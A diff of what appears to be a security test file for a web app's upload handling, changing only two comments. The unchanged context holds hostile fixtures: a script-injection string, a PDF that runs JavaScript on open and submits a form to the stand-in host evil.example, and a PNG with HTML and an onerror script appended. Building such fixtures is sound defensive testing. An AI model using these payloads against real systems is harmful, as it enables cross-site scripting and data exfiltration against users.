@@ -4,7 +4,7 @@ import { accounts, openAs } from '../accounts.ts'
 import { mayComplain, test } from '../test.ts'
 
 const script = '<script>window.top.ran = true; parent.ran = true; document.title = "ran"</script>'
-/** Asks for scripts in each way that readers of PDF know, and is a page of HTML for whoever looks for one. */
+/** Requests scripts in every way that PDF readers know, and is a page of HTML to a reader that looks for one. */
 const hostilePdf = `%PDF-1.7
 1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1); this.submitForm("https://evil.example")) >>
  /AA << /WC << /S /URI /URI (javascript:top.ran=true) >> >> >> endobj
@@ -17,7 +17,7 @@ const png = Buffer.from(
   'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
   'base64',
 )
-/** A picture for whoever looks at its beginning, and a page behind it. */
+/** A picture by its first bytes, with a page behind it. */
 const hostilePicture = Buffer.concat([png, Buffer.from(`<html>${script}<img src=x onerror="top.ran=true">`)])
 
 const fields = (business: string) => ({
